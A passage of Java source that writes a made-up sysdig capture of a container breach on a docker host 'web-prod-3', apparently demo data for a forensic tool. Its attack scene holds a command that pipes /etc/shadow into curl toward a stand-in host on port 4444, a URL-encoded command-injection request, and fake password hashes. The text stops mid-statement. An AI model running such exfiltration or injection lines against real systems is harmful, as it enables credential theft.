package org.scapscope.store;

import java.io.BufferedOutputStream;
import java.io.IOException;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.time.ZoneOffset;
import java.time.format.DateTimeFormatter;
import java.util.ArrayList;
import java.util.Comparator;
import java.util.HashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Random;
import org.scapscope.scap.EventTypes;
import org.scapscope.scap.FdRecord;
import org.scapscope.scap.FileReplace;
import org.scapscope.scap.InterfaceRecord;
import org.scapscope.scap.MachineInfo;
import org.scapscope.scap.ScapWriter;
import org.scapscope.scap.ThreadRecord;
import org.scapscope.scap.UserRecord;

/**
 * A made-up incident to explore: 24 seconds of {@code web-prod-3}, a docker host whose container
 * {@code web-1} ({@code nginx:1.25}) serves a small shop on port 80.
 *
 * <p>The story, in capture time:
 * <ul>
 * <li>all along: the host's own noise: containerd and dockerd waking up, an administrator logged in
 * over ssh who runs {@code uptime}, cron's minutely job (whose PAM check reads {@code /etc/shadow}
 * too, legitimately), an ssh scanner that gives up after the banners;</li>
 * <li>all along: customers and the load balancer's health checks fetching pages from nginx
 * (accept4, recvfrom of the request, openat of the file under {@code /usr/share/nginx/html},
 * writev of the headers, sendfile of the body, the access log, close);</li>
 * <li>from +12.4 s: a scanner at 203.0.113.77 probes for {@code /.env}, {@code /wp-login.php} and
 * more (404s);</li>
 * <li>at +15.8 s: its crafted request makes an nginx worker run {@code /bin/sh -c "cat /etc/shadow|curl
 * ..."} (as a vulnerable module would); the shell, still in the container, pipes {@code cat
 * /etc/shadow} into {@code curl}, which posts the file to 203.0.113.45:4444; then both exit.</li>
 * </ul>
 *
 * <p>The events use the layouts of sysdig 0.29.3 (its parameter counts for every type written), so
 * both this project and {@code sysdig -r} read the file. The output is the same on every run.
 */
public final class DemoCapture {
    private static final long SECOND = 1_000_000_000L;
    private static final long MS = 1_000_000L;
    private static final long US = 1_000L;
    /** 2024-03-14 02:16:52 UTC, the first event; the scenes count time from here. */
    private static final long T0 = 1_710_382_612_000_000_000L;
    /** When the last background noise ends. */
    private static final long END = 24 * SECOND;
    private static final String HOSTNAME = "web-prod-3";

    private static final String CONTAINER_ID = "3f2a9b1c7d4e";
    private static final String CONTAINER_FULL_ID = "3f2a9b1c7d4e8a06b5c3e1f9d2a7c4b08e6f1d3a5c7b9e2f4a6c8d0b1e3f5a79";
    private static final String CONTAINER_NAME = "web-1";
    private static final String IMAGE = "nginx:1.25";

    // ---------------------------------------------------------------- the network
    private static final byte[] HOST_IP = ip(10, 0, 1, 23);
    private static final byte[] DOCKER0_IP = ip(172, 17, 0, 1);
    private static final byte[] CONTAINER_IP = ip(172, 17, 0, 2);
    /** The load balancer, whose health checks come every five seconds. */
    private static final byte[] LB_IP = ip(10, 0, 1, 5);
    private static final byte[] ADMIN_IP = ip(192, 0, 2, 10);
    private static final byte[] CUSTOMER_1 = ip(198, 51, 100, 7);
    private static final byte[] CUSTOMER_2 = ip(198, 51, 100, 23);
    private static final byte[] CUSTOMER_3 = ip(198, 51, 100, 88);
    private static final byte[] CUSTOMER_4 = ip(198, 51, 100, 140);
    /** The attacker's scanner, which sends the exploit. */
    private static final byte[] ATTACKER_IP = ip(203, 0, 113, 77);
    /** Where the stolen file goes. */
    private static final byte[] EXFIL_IP = ip(203, 0, 113, 45);
    private static final int EXFIL_PORT = 4444;
    private static final byte[] SSH_SCANNER_IP = ip(203, 0, 113, 200);
    private static final int HTTP_PORT = 80;
    private static final int SSH_PORT = 22;

    // ---------------------------------------------------------------- processes (host pids)
    private static final long PID_SYSTEMD = 1;
    private static final long PID_CONTAINERD = 612;
    private static final long PID_DOCKERD = 734;
    private static final long PID_SSHD = 881;
    private static final long PID_CRON = 902;
    private static final long PID_SHIM = 2301;
    private static final long PID_NGINX_MASTER = 2324;
    private static final long PID_NGINX_WORKER_1 = 2361;
    private static final long PID_NGINX_WORKER_2 = 2362;
    private static final long PID_SSHD_PRIV = 20411;
    private static final long PID_SSHD_SESSION = 20455;
    private static final long PID_BASH = 20456;
    private static final long PID_UPTIME = 21188;
    private static final long PID_CRON_JOB = 21190;
    private static final long PID_DF = 21191;
    private static final long PID_SSHD_PREAUTH = 21203;
    private static final long PID_SH = 21247;
    private static final long PID_CAT = 21248;
    private static final long PID_CURL = 21249;
    /** The same processes as the container sees them. */
    private static final long VPID_NGINX_MASTER = 1;
    private static final long VPID_WORKER_1 = 29;
    private static final long VPID_WORKER_2 = 30;
    private static final long VPID_SH = 31;
    private static final long VPID_CAT = 32;
    private static final long VPID_CURL = 33;

    // ---------------------------------------------------------------- users
    private static final long ROOT = 0;
    private static final long WWW_DATA = 33;
    private static final long ADMIN = 1000;
    private static final long NO_LOGIN = 0xFFFF_FFFFL;
    /** The terminal /dev/pts/0 (major 136, minor 0). */
    private static final long PTS_0 = 136 << 8;

    // ---------------------------------------------------------------- when things happen (after T0)
    private static final long ADMIN_TYPES_AT = 4_100 * MS;
    /** A moment after 02:17:00. */
    private static final long CRON_FIRES_AT = 8_001_204_330L;
    private static final long SSH_SCAN_AT = 11_305 * MS;
    private static final long RECON_AT = 12_400 * MS;
    private static final long EXPLOIT_AT = 15_800 * MS;

    // ---------------------------------------------------------------- event types (sysdig 0.29.3 numbers)
    private static final int CLOSE_E = 4;
    private static final int CLOSE_X = 5;
    private static final int READ_E = 6;
    private static final int READ_X = 7;
    private static final int WRITE_E = 8;
    private static final int WRITE_X = 9;
    private static final int SOCKET_E = 18;
    private static final int SOCKET_X = 19;
    private static final int CONNECT_E = 22;
    private static final int CONNECT_X = 23;
    private static final int RECVFROM_E = 34;
    private static final int RECVFROM_X = 35;
    private static final int PIPE_E = 60;
    private static final int PIPE_X = 61;
    private static final int EPOLLWAIT_E = 78;
    private static final int EPOLLWAIT_X = 79;
    private static final int WRITEV_E = 118;
    private static final int WRITEV_X = 119;
    private static final int DUP_E = 124;
    private static final int DUP_X = 125;
    private static final int NANOSLEEP_E = 134;
    private static final int NANOSLEEP_X = 135;
    private static final int PROCEXIT_1_E = 186;
    private static final int SENDFILE_E = 188;
    private static final int SENDFILE_X = 189;
    private static final int CLONE_20_E = 222;
    private static final int CLONE_20_X = 223;
    private static final int ACCEPT_5_E = 246;
    private static final int ACCEPT_5_X = 247;
    private static final int ACCEPT4_5_E = 248;
    private static final int ACCEPT4_5_X = 249;
    private static final int EXECVE_19_E = 292;
    private static final int EXECVE_19_X = 293;
    private static final int OPENAT_2_E = 306;
    private static final int OPENAT_2_X = 307;

    // ---------------------------------------------------------------- flag values (PPM_*)
    private static final long AT_FDCWD = -100;
    private static final long O_RDONLY = 1;
    private static final long O_WRONLY = 2;
    private static final long O_RDWR = 3;
    private static final long O_CREAT = 4;
    private static final long O_APPEND = 8;
    private static final long O_NONBLOCK = 64;
    private static final long O_TRUNC = 256;
    private static final long O_CLOEXEC = 4096;
    /** glibc's fork(): CLONE_CHILD_CLEARTID | CLONE_CHILD_SETTID. */
    private static final long FORK_FLAGS = 8_388_608 | 16_777_216;
    private static final long CLONE_CHILD_IN_PIDNS = 1L << 29;
    private static final long SOCK_NONBLOCK = 0x800;
    private static final long AF_INET = 2;
    private static final long SOCK_STREAM = 1;
    private static final long IPPROTO_TCP = 6;
    private static final long FDLIMIT = 1_048_576;
    private static final long ALL_CAPS = 0x1ff_ffff_ffffL;
    private static final long DEV_ROOT = 0x801;
    private static final long DEV_OVERLAY = 0x31;
    private static final long DEV_PROC = 0x16;

    // ---------------------------------------------------------------- descriptors
    private static final long NGINX_ERROR_LOG = 4;
    private static final long NGINX_ACCESS_LOG = 5;
    private static final long NGINX_LISTEN = 6;
    private static final long CONNECTION = 10;
    private static final long SERVED_FILE = 11;
    private static final long SSH_LISTEN = 3;
    private static final long SSH_SOCKET = 3;
    private static final long PTMX = 9;

    private static final String DOCROOT = "/usr/share/nginx/html";
    private static final String NGINX_WORKER_EXE = "nginx: worker process";
    private static final String EXFIL_URL = "http://203.0.113.45:4444/";
    private static final String SHELL_COMMAND = "cat /etc/shadow|curl -s --data-binary @- " + EXFIL_URL;
    /** The exploit's request: the shell command, URL-encoded, for a handler that runs it. */
    private static final String EXPLOIT_PATH = "/cgi-bin/diag?cmd=cat%20%2Fetc%2Fshadow%7Ccurl%20-s%20--data-binary"
            + "%20%40-%20http%3A%2F%2F203.0.113.45%3A4444%2F";

    private static final List<String> CONTAINER_ENV = List.of(
            "PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin", "HOSTNAME=" + CONTAINER_ID,
            "NGINX_VERSION=1.25.4", "NJS_VERSION=0.8.3", "PKG_RELEASE=1~bookworm", "HOME=/var/www");
    private static final List<String> HOST_ENV = List.of("LANG=C.UTF-8",
            "PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin");
    private static final List<String> ADMIN_ENV = List.of("SHELL=/bin/bash", "USER=admin", "HOME=/home/admin",
            "LOGNAME=admin", "TERM=xterm-256color", "SSH_CONNECTION=192.0.2.10 53122 10.0.1.23 22",
            "PATH=/usr/local/bin:/usr/bin:/bin");

    /** The /etc/shadow of the container image (readable by all: the image's mistake). */
    private static final String SHADOW = "root:$y$j9T$kY8n2vQe0mS1bR7cW3xZ./$Qw1Jx9o2mV6pTt0bC4e8hH7sN1rK3fG5dA2yL9uE0iP"
            + ":19797:0:99999:7:::\n"
            + "daemon:*:19797:0:99999:7:::\n"
            + "bin:*:19797:0:99999:7:::\n"
            + "sys:*:19797:0:99999:7:::\n"
            + "www-data:*:19797:0:99999:7:::\n"
            + "nobody:*:19797:0:99999:7:::\n"
            + "nginx:!:19798::::::\n"
            + "deploy:$6$Zq3rT8pX$hV2cN7mB4kL9sD1fG6jW0eR5tY8uI3oP2aS7dF4gH1jK6lZ9xC0vB5nM8qW2eR7tY4uI1oP6aS3dF8gH0jK5l."
            + ":19802:0:99999:7:::\n";
    /** The host's /etc/shadow, which cron's PAM check reads. */
    private static final String HOST_SHADOW = "root:*:19650:0:99999:7:::\n"
            + "daemon:*:19650:0:99999:7:::\n"
            + "www-data:*:19650:0:99999:7:::\n"
            + "sshd:*:19650:0:99999:7:::\n"
            + "admin:$y$j9T$3nVx8qPz1Lw0Rk5Tb7Yc2./$Hq4Ue9Jm2Xs7Wd1Fr6Gt0Ky3Pn8Lb5Vc2Az9Sx4De7:19701:0:99999:7:::\n";

    private DemoCapture() {
    }

    /** Writes the demo capture to {@code file}: to a temporary file beside it, then moved into place. */
    public static void write(Path file) throws IOException {
        Path target = file.toAbsolutePath();
        Path tmp = Files.createTempFile(target.getParent(), "." + target.getFileName(), ".tmp");
        try {
            try (ScapWriter w = new ScapWriter(new BufferedOutputStream(Files.newOutputStream(tmp)))) {
                write(w);
            }
            FileReplace.replace(tmp, target);
        } finally {
            Files.deleteIfExists(tmp);
        }
    }

    private static void write(ScapWriter w) throws IOException {
        List<Proc> procs = processes();
        w.sectionHeader(ByteOrder.LITTLE_ENDIAN, 1, 2)
                .machineInfo(new MachineInfo(4, 8L << 30, 4_194_304, HOSTNAME, T0 - 37 * 86_400 * SECOND))
                .processList(9, procs.stream().map(Proc::record).toList());
        for (Proc p : procs) {
            List<FdRecord> fds = fds(p.tid);
            if (!fds.isEmpty()) {
                w.fdList(true, p.tid, fds);
            }
        }
        w.interfaceList(true, interfaces()).userList(true, users());
        w.event(0, T0, 0, EventTypes.CONTAINER_JSON_E, containerJson());

        Timeline t = new Timeline(procs);
        hostNoise(t);
        adminSession(t);
        cronJob(t);
        sshScanner(t);
        webTraffic(t);
        Task worker = reconAndExploit(t);
        Task sh = shell(worker);
        Task cat = shadowRead(sh);
        Task curl = outboundConnection(sh);
        shellEnds(sh, Math.max(cat.now, curl.now));
        exploitResponse(worker, sh.now);
        t.write(w);
    }

    // ================================================================ the scenes

    /** containerd and dockerd waking up now and then, all through the capture. */
    private static void hostNoise(Timeline t) {
        Task containerd = t.task(PID_CONTAINERD, 0);
        while (containerd.now < END - SECOND) {
            containerd.epollWait(1_000 * MS - 14 * US, 0);
            containerd.pause(14 * US);
        }
        Task dockerd = t.task(PID_DOCKERD, 610 * MS);
        while (dockerd.now < END - 3 * SECOND) {
            dockerd.nanosleep(2_500 * MS);
        }
    }

    /** The administrator, logged in over ssh, types {@code uptime} and reads the answer. */
    private static void adminSession(Timeline t) {
        Task sshd = t.task(PID_SSHD_SESSION, ADMIN_TYPES_AT);
        Task bash = t.task(PID_BASH, ADMIN_TYPES_AT);
        for (char c : "uptime\r".toCharArray()) {
            keystroke(sshd, bash, c == '\r' ? "\r\n" : String.valueOf(c));
            sshd.pause(t.between(110 * MS, 240 * MS));
        }
        Task uptime = fork(bash, PID_UPTIME);
        exec(uptime, "/usr/bin/uptime", "uptime", List.of(), ADMIN_ENV);
        uptime.openat("/proc/uptime", O_RDONLY | O_CLOEXEC, 3, DEV_PROC);
        uptime.read(3, 8191, "3196933.41 12683541.80\n");
        uptime.close(3);
        uptime.openat("/var/run/utmp", O_RDONLY | O_CLOEXEC, 3, DEV_ROOT);
        uptime.read(3, 384, new byte[384]);
        uptime.close(3);
        uptime.openat("/proc/loadavg", O_RDONLY | O_CLOEXEC, 3, DEV_PROC);
        uptime.read(3, 8191, "0.08 0.03 0.01 1/312 21188\n");
        uptime.close(3);
        String answer = " " + date(uptime.now, "HH:mm:ss") + " up 37 days,  4:12,  1 user,  load average: 0.08, 0.03, "
                + "0.01\n";
        uptime.write(1, answer);
        uptime.exit(0);
        bash.at(uptime.now + 60 * US);
        bash.write(2, "admin@web-prod-3:~$ ");
        sshd.at(bash.now);
        sshd.read(PTMX, 16384, answer + "admin@web-prod-3:~$ ");
        sshd.write(SSH_SOCKET, t.noise(148));
    }

    /** One key: sshd decrypts it onto the terminal, bash reads and echoes it, sshd sends the echo back. */
    private static void keystroke(Task sshd, Task bash, String key) {
        sshd.read(SSH_SOCKET, 16384, sshd.timeline.noise(36));
        sshd.write(PTMX, key);
        bash.at(sshd.now);
        bash.read(0, 1, key.substring(0, 1));
        bash.write(2, key);
        sshd.at(bash.now);
        sshd.read(PTMX, 16384, key);
        sshd.write(SSH_SOCKET, sshd.timeline.noise(36));
    }

    /** cron's minutely job: PAM reads /etc/shadow (legitimately), then a host shell runs df. */
    private static void cronJob(Timeline t) {
        Task cron = t.task(PID_CRON, CRON_FIRES_AT);
        Task job = fork(cron, PID_CRON_JOB);
        job.openat("/etc/passwd", O_RDONLY | O_CLOEXEC, 3, DEV_ROOT);
        job.read(3, 4096, "root:x:0:0:root:/root:/bin/bash\n");
        job.close(3);
        job.openat("/etc/shadow", O_RDONLY | O_CLOEXEC, 3, DEV_ROOT);
        job.read(3, 4096, HOST_SHADOW);
        job.close(3);
        exec(job, "/bin/sh", "/bin/sh", List.of("-c", "df -h / > /var/log/disk-usage.log"), HOST_ENV);
        Task df = fork(job, PID_DF);
        df.openat("/var/log/disk-usage.log", O_WRONLY | O_CREAT | O_TRUNC, 3, DEV_ROOT);
        df.dup(3, 1);
        df.close(3);
        exec(df, "/usr/bin/df", "df", List.of("-h", "/"), HOST_ENV);
        df.openat("/proc/self/mountinfo", O_RDONLY | O_CLOEXEC, 3, DEV_PROC);
        df.read(3, 1024, "25 30 8:1 / / rw,relatime shared:1 - ext4 /dev/sda1 rw\n");
        df.close(3);
        df.write(1, "Filesystem      Size  Used Avail Use% Mounted on\n/dev/sda1        79G   31G   45G  41% /\n");
        df.close(1);
        df.exit(0);
        job.at(df.now + 90 * US);
        job.exit(0);
    }

    /** A bot connects to sshd, swaps banners and leaves. */
    private static void sshScanner(Timeline t) {
        Task sshd = t.task(PID_SSHD, SSH_SCAN_AT);
        sshd.accept(5, ScapWriter.tuple(SSH_SCANNER_IP, 40112, HOST_IP, SSH_PORT));
        Task child = fork(sshd, PID_SSHD_PREAUTH);
        sshd.close(5);
        child.write(5, "SSH-2.0-OpenSSH_9.6p1 Ubuntu-3ubuntu13\r\n");
        child.pause(38 * MS);
        child.read(5, 8192, "SSH-2.0-Go\r\n");
        child.pause(41 * MS);
        child.read(5, 8192, "");
        child.close(5);
        child.exit(255);
    }

    /** Customers and health checks fetch pages; each visit is one connection that one worker serves. */
    private static void webTraffic(Timeline t) {
        Task w1 = t.task(PID_NGINX_WORKER_1, 0);
        Task w2 = t.task(PID_NGINX_WORKER_2, 0);
        String firefox = "Mozilla/5.0 (X11; Linux x86_64; rv:123.0) Gecko/20100101 Firefox/123.0";
        String safari = "Mozilla/5.0 (iPhone; CPU iPhone OS 17_3 like Mac OS X) AppleWebKit/605.1.15 "
                + "(KHTML, like Gecko) Version/17.3 Mobile/15E148 Safari/604.1";
        String chrome = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                + "Chrome/122.0.0.0 Safari/537.36";
        visit(w1, 820 * MS, CUSTOMER_1, 52814, firefox, "/", "/css/site.css", "/js/app.js", "/img/logo.png",
                "/favicon.ico");
        visit(w2, 3_610 * MS, CUSTOMER_2, 61022, safari, "/", "/css/site.css", "/js/app.js", "/img/logo.png");
        visit(w1, 6_200 * MS, CUSTOMER_1, 52840, firefox, "/products.html", "/img/product-1.jpg");
        visit(w1, 9_850 * MS, CUSTOMER_3, 49733, chrome, "/", "/css/site.css", "/js/app.js", "/about.html");
        visit(w2, 19_300 * MS, CUSTOMER_2, 61187, safari, "/contact.html");
        visit(w1, 21_700 * MS, CUSTOMER_4, 57301, chrome, "/", "/css/site.css", "/js/app.js");
        for (long at = 2_000; at < 24_000; at += 5_000) {
            visit(w2, at * MS, LB_IP, 38000 + (int) (at / 100), "ELB-HealthChecker/2.0", "/healthz");
        }
    }

    /**
     * The scanner's probes (all 404), then the exploit's connection: the worker accepts it and reads
     * the crafted request. Returns the worker, about to start the shell.
     */
    private static Task reconAndExploit(Timeline t) {
        Task w1 = t.task(PID_NGINX_WORKER_1, 0);
        String bot = "Mozilla/5.0 zgrab/0.x";
        visit(w1, RECON_AT, ATTACKER_IP, 44210, bot, "/.env", "/wp-login.php", "/.git/config", "/server-status");
        w1.at(EXPLOIT_AT - 1_240 * MS);
        w1.epollWait(1_240 * MS, 1);
        w1.accept4(CONNECTION, ScapWriter.tuple(ATTACKER_IP, 44236, CONTAINER_IP, HTTP_PORT));
        String request = "GET " + EXPLOIT_PATH + " HTTP/1.1\r\nHost: 10.0.1.23\r\n"
                + "User-Agent: python-requests/2.31.0\r\nAccept-Encoding: gzip, deflate\r\nAccept: */*\r\n"
                + "Connection: close\r\n\r\n";
        w1.recvfrom(CONNECTION, 1024, request, inbound(ATTACKER_IP, 44236));
        return w1;
    }

    /** The worker forks; the child, still in the container, becomes {@code sh -c "cat ...|curl ..."}. */
    private static Task shell(Task worker) {
        Task sh = fork(worker, PID_SH, VPID_SH);
        exec(sh, "/bin/sh", "sh", List.of("-c", SHELL_COMMAND), CONTAINER_ENV);
        sh.pipe(3, 7, 881_277);
        return sh;
    }

    /** The shell's first child: {@code cat /etc/shadow} into the pipe. */
    private static Task shadowRead(Task sh) {
        Task cat = fork(sh, PID_CAT, VPID_CAT);
        cat.dup(7, 1);
        cat.close(3);
        cat.close(7);
        exec(cat, "/bin/cat", "cat", List.of("/etc/shadow"), CONTAINER_ENV);
        cat.openat("/etc/shadow", O_RDONLY, 3, DEV_OVERLAY);
        cat.read(3, 131_072, SHADOW);
        cat.write(1, SHADOW);
        cat.read(3, 131_072, "");
        cat.close(3);
        cat.close(1);
        cat.exit(0);
        return cat;
    }

    /** The shell's second child: curl posts what it reads from the pipe to 203.0.113.45:4444. */
    private static Task outboundConnection(Task sh) {
        sh.pause(95 * US);
        Task curl = fork(sh, PID_CURL, VPID_CURL);
        sh.close(3);
        sh.close(7);
        curl.dup(3, 0);
        curl.close(3);
        curl.close(7);
        exec(curl, "/usr/bin/curl", "curl", List.of("-s", "--data-binary", "@-", EXFIL_URL), CONTAINER_ENV);
        curl.at(curl.now + 2_400 * US);
        curl.read(0, 65_536, SHADOW);
        curl.read(0, 65_536, "");
        curl.socket(3);
        int port = 43518;
        curl.connect(3, EXFIL_IP, EXFIL_PORT, ScapWriter.tuple(CONTAINER_IP, port, EXFIL_IP, EXFIL_PORT), 41 * MS);
        curl.write(3, "POST / HTTP/1.1\r\nHost: 203.0.113.45:4444\r\nUser-Agent: curl/7.88.1\r\nAccept: */*\r\n"
                + "Content-Length: " + bytes(SHADOW).length + "\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\n"
                + SHADOW);
        curl.pause(10 * US);
        curl.recvfrom(3, 102_400, "HTTP/1.0 200 OK\r\nServer: SimpleHTTP/0.6 Python/3.11.2\r\n"
                + "Date: " + httpDate(curl.now) + "\r\n\r\n", ScapWriter.tuple(EXFIL_IP, EXFIL_PORT, CONTAINER_IP, port),
                43 * MS);
        curl.close(3);
        curl.exit(0);
        return curl;
    }

    /** The shell outlives its children by a moment. */
    private static void shellEnds(Task sh, long childrenGone) {
        sh.at(childrenGone + 70 * US);
        sh.exit(0);
    }

    /** The worker answers the exploit's request and closes the connection. */
    private static void exploitResponse(Task worker, long shellGone) {
        worker.at(shellGone + 120 * US);
        String date = httpDate(worker.now);
        worker.write(CONNECTION, "HTTP/1.1 200 OK\r\nServer: nginx/1.25.4\r\nDate: " + date
                + "\r\nContent-Type: text/plain\r\nContent-Length: 0\r\nConnection: close\r\n\r\n");
        worker.write(NGINX_ACCESS_LOG, accessLog(worker.now, ATTACKER_IP, "GET " + EXPLOIT_PATH, 200, 0,
                "python-requests/2.31.0"));
        worker.close(CONNECTION);
    }

    // ================================================================ web serving

    /** One connection: accepted after a wait, one request per path, then the client's close. */
    private static void visit(Task worker, long at, byte[] client, int port, String agent, String... paths) {
        Timeline t = worker.timeline;
        long arrives = at + t.between(0, 900 * US);
        long idle = t.between(100 * MS, 700 * MS);
        worker.at(arrives - idle);
        worker.epollWait(idle, 1);
        worker.accept4(CONNECTION, ScapWriter.tuple(client, port, CONTAINER_IP, HTTP_PORT));
        t.connections++;
        boolean first = true;
        for (String path : paths) {
            if (!first) {
                worker.epollWait(t.between(18 * MS, 75 * MS), 1);
            }
            first = false;
            worker.recvfrom(CONNECTION, 1024, "GET " + path + " HTTP/1.1\r\nHost: shop.example.com\r\nUser-Agent: "
                    + agent + "\r\nAccept: */*\r\nAccept-Encoding: gzip, deflate, br\r\nConnection: keep-alive\r\n\r\n",
                    inbound(client, port));
            serve(worker, client, path, agent);
        }
        worker.epollWait(t.between(120 * MS, 400 * MS), 1);
        worker.recvfrom(CONNECTION, 1024, "", inbound(client, port));
        worker.close(CONNECTION);
    }

    /** Answers one GET: the file with writev and sendfile, or a 404 for a file that is not there. */
    private static void serve(Task worker, byte[] client, String path, String agent) {
        String file = DOCROOT + (path.equals("/") ? "/index.html" : path);
        long size = pageSize(path);
        String date = httpDate(worker.now);
        if (size < 0) {
            worker.openat(file, O_RDONLY | O_NONBLOCK, -2, DEV_OVERLAY);
            long vpid = worker.timeline.process(worker.tid).vtid;
            worker.write(NGINX_ERROR_LOG, date(worker.now, "yyyy/MM/dd HH:mm:ss") + " [error] " + vpid + "#" + vpid
                    + ": *" + worker.timeline.connections + " open() \"" + file + "\" failed (2: No such file or "
                    + "directory), client: " + text(client) + ", server: localhost, request: \"GET " + path
                    + " HTTP/1.1\"\n");
            String body = "<html>\r\n<head><title>404 Not Found</title></head>\r\n<body>\r\n<center><h1>404 Not Found"
                    + "</h1></center>\r\n<hr><center>nginx/1.25.4</center>\r\n</body>\r\n</html>\r\n";
            worker.write(CONNECTION, "HTTP/1.1 404 Not Found\r\nServer: nginx/1.25.4\r\nDate: " + date
                    + "\r\nContent-Type: text/html\r\nContent-Length: " + body.length()
                    + "\r\nConnection: keep-alive\r\n\r\n" + body);
            worker.write(NGINX_ACCESS_LOG, accessLog(worker.now, client, "GET " + path, 404, body.length(), agent));
            return;
        }
        worker.openat(file, O_RDONLY | O_NONBLOCK, SERVED_FILE, DEV_OVERLAY);
        worker.writev(CONNECTION, "HTTP/1.1 200 OK\r\nServer: nginx/1.25.4\r\nDate: " + date + "\r\nContent-Type: "
                + contentType(path) + "\r\nContent-Length: " + size + "\r\nLast-Modified: Tue, 05 Mar 2024 09:12:44 GMT"
                + "\r\nConnection: keep-alive\r\nETag: \"65e6e1dc-" + Long.toHexString(size) + "\"\r\n"
                + "Accept-Ranges: bytes\r\n\r\n");
        worker.sendfile(CONNECTION, SERVED_FILE, size);
        worker.write(NGINX_ACCESS_LOG, accessLog(worker.now, client, "GET " + path, 200, size, agent));
        worker.close(SERVED_FILE);
    }

    /** The size of a page of the site, or -1 for a path it does not have. */
    private static long pageSize(String path) {
        switch (path) {
            case "/": return 2314;
            case "/css/site.css": return 5120;
            case "/js/app.js": return 18_432;
            case "/img/logo.png": return 7842;
            case "/favicon.ico": return 4286;
            case "/products.html": return 6_871;
            case "/img/product-1.jpg": return 48_213;
            case "/about.html": return 3_402;
            case "/contact.html": return 2_977;
            case "/healthz": return 3;
            default: return -1;
        }
    }

    private static String contentType(String path) {
        if (path.endsWith(".css")) {
            return "text/css";
        }
        if (path.endsWith(".js")) {
            return "application/javascript";
        }
        if (path.endsWith(".png")) {
            return "image/png";
        }
        if (path.endsWith(".jpg")) {
            return "image/jpeg";
        }
        if (path.endsWith(".ico")) {
            return "image/x-icon";
        }
        return path.equals("/healthz") ? "application/octet-stream" : "text/html";
    }

    private static String accessLog(long ts, byte[] client, String request, int status, long size, String agent) {
        return text(client) + " - - [" + date(ts, "dd/MMM/yyyy:HH:mm:ss Z") + "] \"" + request + " HTTP/1.1\" " + status
                + " " + size + " \"-\" \"" + agent + "\"\n";
    }

    private static String httpDate(long ts) {
        return DateTimeFormatter.RFC_1123_DATE_TIME.format(Instant.ofEpochSecond(0, T0 + ts).atOffset(ZoneOffset.UTC));
    }

    private static String date(long ts, String pattern) {
        return DateTimeFormatter.ofPattern(pattern, Locale.ROOT)
                .format(Instant.ofEpochSecond(0, T0 + ts).atOffset(ZoneOffset.UTC));
    }

    /** The tuple of data that arrives from a client at the container's port 80. */
    private static byte[] inbound(byte[] client, int port) {
        return ScapWriter.tuple(client, port, CONTAINER_IP, HTTP_PORT);
    }

    // ================================================================ processes

    /** What the capture knows of one process: its process-list record and its clone and execve parameters. */
    private record Proc(long tid, long ptid, long sid, long vpgid, String comm, String exe, String exepath,
                        List<String> args, String cwd, long uid, long gid, long vtid, List<String> env,
                        List<String> cgroups, long loginuid, long tty, long vmSizeKb, long vmRssKb) {
        boolean inContainer() {
            return vtid != tid;
        }

        ThreadRecord record() {
            long caps = uid == ROOT ? ALL_CAPS : 0;
            return new ThreadRecord(tid, tid, ptid, sid, vpgid, comm, exe, exepath, args, cwd, FDLIMIT, 0, uid, gid,
                    vmSizeKb, vmRssKb, 0, 3, 1200 + tid % 977, env, vtid, vtid, cgroups, "/", 0, tty, loginuid,
                    false, 0, caps, caps, false, 0, 0, 0, false, false, vpgid);
        }

        /** The same process after an execve. */
        Proc exec(String newComm, String newExe, String newExepath, List<String> newArgs, List<String> newEnv) {
            return new Proc(tid, ptid, sid, vpgid, newComm, newExe, newExepath, newArgs, cwd, uid, gid, vtid, newEnv,
                    cgroups, loginuid, tty, 2_700 + tid % 300, 1_100 + tid % 500);
        }
    }

    private static List<Proc> processes() {
        List<Proc> p = new ArrayList<>();
        p.add(new Proc(PID_SYSTEMD, 0, 1, 1, "systemd", "/sbin/init", "/usr/lib/systemd/systemd", List.of("splash"),
                "/", ROOT, ROOT, PID_SYSTEMD, HOST_ENV, hostCgroups("/init.scope"), NO_LOGIN, 0, 168_432, 12_880));
        p.add(service(PID_CONTAINERD, "containerd", "/usr/bin/containerd", List.of(), "containerd.service",
                1_935_120, 48_212));
        p.add(service(PID_DOCKERD, "dockerd", "/usr/bin/dockerd",
                List.of("-H", "fd://", "--containerd=/run/containerd/containerd.sock"), "docker.service",
                2_480_040, 86_716));
        p.add(service(PID_SSHD, "sshd", "/usr/sbin/sshd", List.of("-D"), "ssh.service", 15_424, 9_012));
        p.add(service(PID_CRON, "cron", "/usr/sbin/cron", List.of("-f", "-P"), "cron.service", 6_700, 2_688));
        p.add(new Proc(PID_SHIM, PID_SYSTEMD, PID_SHIM, PID_SHIM, "containerd-shim", "/usr/bin/containerd-shim-runc-v2",
                "/usr/bin/containerd-shim-runc-v2", List.of("-namespace", "moby", "-id", CONTAINER_FULL_ID, "-address",
                "/run/containerd/containerd.sock"), "/run/containerd/io.containerd.runtime.v2.task/moby/"
                + CONTAINER_FULL_ID, ROOT, ROOT, PID_SHIM, HOST_ENV, hostCgroups("/system.slice/containerd.service"),
                NO_LOGIN, 0, 1_238_336, 14_104));
        p.add(new Proc(PID_NGINX_MASTER, PID_SHIM, PID_NGINX_MASTER, VPID_NGINX_MASTER, "nginx",
                "nginx: master process nginx -g daemon off;", "/usr/sbin/nginx", List.of(), "/", ROOT, ROOT,
                VPID_NGINX_MASTER, CONTAINER_ENV, containerCgroups(), NO_LOGIN, 0, 11_348, 5_940));
        p.add(worker(PID_NGINX_WORKER_1, VPID_WORKER_1));
        p.add(worker(PID_NGINX_WORKER_2, VPID_WORKER_2));
        p.add(new Proc(PID_SSHD_PRIV, PID_SSHD, PID_SSHD_PRIV, PID_SSHD_PRIV, "sshd", "sshd: admin [priv]",
                "/usr/sbin/sshd", List.of(), "/", ROOT, ROOT, PID_SSHD_PRIV, HOST_ENV,
                hostCgroups("/user.slice/user-1000.slice/session-42.scope"), ADMIN, 0, 17_060, 11_204));
        p.add(new Proc(PID_SSHD_SESSION, PID_SSHD_PRIV, PID_SSHD_PRIV, PID_SSHD_PRIV, "sshd", "sshd: admin@pts/0",
